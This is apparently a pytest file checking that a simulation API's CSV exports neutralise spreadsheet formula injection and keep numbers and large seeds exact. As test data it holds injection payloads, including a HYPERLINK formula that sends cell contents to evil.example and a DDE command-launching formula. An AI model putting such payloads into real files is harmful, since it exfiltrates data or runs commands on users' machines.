"""CSV downloads never hand a spreadsheet a formula (OWASP, CSV injection; issue 11, finding 7),
and keep numbers as numbers."""

from __future__ import annotations

import csv
import io

import anyio

import tcpsim
from api.tabular import TableFormat, csv_text, table_response
from services.runs.service import claim, complete
from services.settings import get_settings

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"]


def test_text_that_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay_numbers() -> None:
    for formula in FORMULAS:
        assert csv_text(formula) == "'" + formula
    for kept in (-2.5, -3, 0, "-2.5", "+4", "-1e-3", "plain", "a=b", "", None, "[1, 2]"):
        assert csv_text(kept) == kept


def _body(response) -> str:
    """A streamed response's body, read as the server would send it."""

    async def read() -> bytes:
        return b"".join([chunk async for chunk in response.body_iterator])

    return anyio.run(read).decode()


def test_a_table_download_neutralises_cells_and_headers_but_not_numbers() -> None:
    rows = [{"name": f, "value": -2.5, "count": -3, "text": "-7"} for f in FORMULAS] + [{"=cmd|' /C calc'!A0": 1}]
    text = _body(table_response(rows, TableFormat.csv, "t"))
    table = list(csv.reader(io.StringIO(text)))
    assert table[0] == ["name", "value", "count", "text", "'=cmd|' /C calc'!A0"]
    assert [r[0] for r in table[1:-1]] == ["'" + f for f in FORMULAS]
    assert all(r[1:] == ["-2.5", "-3", "-7", ""] for r in table[1:-1])
    # JSON is data, not a spreadsheet: it stays as it was.
    assert '"name":"=HYPERLINK' in _body(table_response(rows, TableFormat.json, "t"))


def test_a_seed_past_int64_goes_to_parquet_as_uint64_and_reads_back_exactly() -> None:
    import pyarrow.parquet as pq

    seeds = [2**64 - 1, 5, None]
    response = table_response([{"seed": s} for s in seeds], TableFormat.parquet, "t")
    table = pq.read_table(io.BytesIO(response.body))
    assert str(table.schema.field("seed").type) == "uint64" and table.column("seed").to_pylist() == seeds


def test_a_runs_flow_and_trace_downloads_neutralise_a_hostile_flow_name(client, db_session) -> None:
    name = FORMULAS[0]
    scenario = {
        "duration_s": 1,
        "topology": {"dumbbell": {"bottleneck": {"rate_mbps": 10, "delay_ms": 5}}},
        "flows": [{"name": name, "variant": "reno", "rtt_ms": 40}],
        "outputs": {"trace_interval_s": 0.25},
    }
    run_id = client.post("/v1/runs", json={"scenario": scenario}).json()["id"]
    complete(db_session, run_id, tcpsim.run(claim(db_session, run_id, "test", get_settings())))
    db_session.commit()

    flows = list(csv.DictReader(io.StringIO(client.get(f"/v1/runs/{run_id}/flows?format=csv").text)))
    assert flows[0]["name"] == "'" + name
    traces = list(csv.reader(io.StringIO(client.get(f"/v1/runs/{run_id}/traces?format=csv").text)))
    assert traces[0] == ["time_s", f"'{name}.cwnd", f"'{name}.ssthresh", "bottleneck.queue"]
    # The JSON table names the column as it is: only a spreadsheet's cells are quoted.
    assert client.get(f"/v1/runs/{run_id}/traces").json()["series"][0]["column"] == f"{name}.cwnd"
